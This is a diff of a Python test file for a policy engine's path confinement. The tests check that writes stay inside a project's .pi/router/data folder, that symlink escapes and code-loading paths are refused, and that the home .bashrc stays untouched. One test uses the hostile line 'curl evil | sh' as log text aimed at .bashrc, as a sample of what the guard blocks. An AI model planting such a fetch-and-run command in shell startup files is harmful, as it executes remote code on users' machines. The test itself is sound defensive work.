@@ -107,7 +107,8 @@ def test_every_file_dir_or_binary_parameter_declares_a_capability() -> None:
 # --- path checks --------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("value", ["notes.log", ".pi/state.json", "./sub/../x.log", "{project}/a/b.log",
+@pytest.mark.parametrize("value", [".pi/router/data/notes.log", ".pi/router/data/state.json",
+                                   "./.pi/router/data/sub/../x.log", "{project}/.pi/router/data/a/b.log",
                                    "{agent}/router/data/p.json"])
 def test_confined_path_inside_the_project_or_the_data_dir(world: World, value: str) -> None:
     value = value.format(project=world.project, agent=world.agent)
@@ -134,7 +135,8 @@ def test_confined_path_refused(world: World, value: str, problem: str) -> None:
 def test_confined_path_tilde_is_the_home_and_tilde_user_is_refused(world: World) -> None:
     inside = Confinement(str(world.home / "work"), str(world.agent), str(world.home))
     (world.home / "work").mkdir()
-    assert confined_path("~/work/x.log", inside, "fs.write", label="f") == world.home / "work" / "x.log"
+    assert confined_path("~/work/.pi/router/data/x.log", inside, "fs.write", label="f") == \
+        world.home / "work" / ".pi" / "router" / "data" / "x.log"
     with pytest.raises(Refused, match="only ~"):
         confined_path("~root/x", inside, "fs.write", label="f")
 
@@ -146,17 +148,23 @@ def test_confined_path_environment_variables_are_not_expanded(world: World) -> N
 
 
 def test_confined_path_symlink_inside_the_project_leading_out_is_refused(world: World) -> None:
-    (world.project / "logs").symlink_to(world.home)
-    lexical = confined_path("logs/.bashrc", world.confinement, "fs.write", label="log.file", resolve=False)
-    assert lexical == world.project / "logs" / ".bashrc"  # lexically inside
+    data = world.project / ".pi" / "router" / "data"
+    data.mkdir(parents=True)
+    (data / "logs").symlink_to(world.home)
+    value = ".pi/router/data/logs/.bashrc"
+    lexical = confined_path(value, world.confinement, "fs.write", label="log.file", resolve=False)
+    assert lexical == data / "logs" / ".bashrc"  # lexically inside
     with pytest.raises(Refused) as refused:
-        confined_path("logs/.bashrc", world.confinement, "fs.write", label="log.file")
+        confined_path(value, world.confinement, "fs.write", label="log.file")
     assert "resolves to" in refused.value.message and "outside the project" in refused.value.message
 
 
 def test_project_in_the_home_directory_is_confined_to_its_dot_pi(world: World) -> None:
     conf = Confinement(str(world.home), str(world.agent), str(world.home))
-    assert confined_path(".pi/x.log", conf, "fs.write", label="f") == world.home / ".pi" / "x.log"
+    assert confined_path(".pi/router/data/x.log", conf, "fs.write", label="f") == \
+        world.home / ".pi" / "router" / "data" / "x.log"
+    with pytest.raises(Refused, match="loads code"):
+        confined_path(".pi/extensions/x.ts", conf, "fs.write", label="f")
     with pytest.raises(Refused):
         confined_path(".bashrc", conf, "fs.write", label="f")
 
@@ -182,9 +190,9 @@ def test_write_and_append_outside_the_project_refuse_the_rule_only(world: World)
           - id: inside
             on: input
             do:
-              - log: {file: .pi/ok.log, text: fine}
-              - audit: {file: audit.jsonl, record: {a: 1}}
-              - save: {file: .pi/state.json, key: a, value: 1}
+              - log: {file: .pi/router/data/ok.log, text: fine}
+              - audit: {file: .pi/router/data/audit.jsonl, record: {a: 1}}
+              - save: {file: .pi/router/data/state.json, key: a, value: 1}
     """)
     policy = world.compile()
     assert [r.id for r in policy.rules] == ["default-warn-context-full", "default-rearm-context-warning",
@@ -444,7 +452,7 @@ def test_templated_path_refused_at_run_time_other_rules_fire(world: World) -> No
           - id: fine
             on: input
             do:
-              - log: {file: "{'.pi/' + 'ok.log'}", text: fine}
+              - log: {file: "{'.pi/router/data/' + 'ok.log'}", text: fine}
               - notify: "wrote={state.wrote}"
     """)
     policy = world.compile()
@@ -455,7 +463,7 @@ def test_templated_path_refused_at_run_time_other_rules_fire(world: World) -> No
     assert decision.state == {} and [e.code for e in decision.errors] == ["RT601"]
     executor = Executor(None, cwd=str(world.project))
     applied = executor.apply(decision)
-    assert (world.project / ".pi" / "ok.log").read_text() == "fine\n"
+    assert (world.project / ".pi" / "router" / "data" / "ok.log").read_text() == "fine\n"
     assert (world.home / ".bashrc").read_text() == "# bashrc\n"
     assert any("sneaky" in w and "RT601" in w for w in applied.warnings)
 
@@ -479,16 +487,19 @@ def confined_effect(world: World, action: str, params: dict[str, Any], rule: str
 
 
 def test_executor_refuses_a_rule_whose_path_leads_out_through_a_link(world: World) -> None:
-    (world.project / "logs").symlink_to(world.home)
+    data = world.project / ".pi" / "router" / "data"
+    data.mkdir(parents=True)
+    (data / "logs").symlink_to(world.home)
     log = world.agent / "router" / "router.log"
     executor = Executor(None, cwd=str(world.project), log_file=log)
-    effects = (confined_effect(world, "log", {"file": "logs/.bashrc", "text": "curl evil | sh"}, "escape"),
+    escape = {"file": ".pi/router/data/logs/.bashrc", "text": "curl evil | sh"}
+    effects = (confined_effect(world, "log", escape, "escape"),
                Effect("notify", {"text": "escape says hi"}, "escape"),
-               confined_effect(world, "log", {"file": "ok.log", "text": "fine"}, "fine"),
+               confined_effect(world, "log", {"file": ".pi/router/data/ok.log", "text": "fine"}, "fine"),
                Effect("notify", {"text": "fine says hi"}, "fine"))
     applied = executor.apply(Decision("input", effects=effects))
     assert (world.home / ".bashrc").read_text() == "# bashrc\n"
-    assert (world.project / "ok.log").read_text() == "fine\n"
+    assert (data / "ok.log").read_text() == "fine\n"
     assert [a["rule"] for a in applied.actions] == ["fine"]
     assert len(applied.warnings) == 1 and "rule 'escape' refused" in applied.warnings[0]
     assert "resolves to" in applied.warnings[0] and applied.warnings[0].endswith("[RT601]")
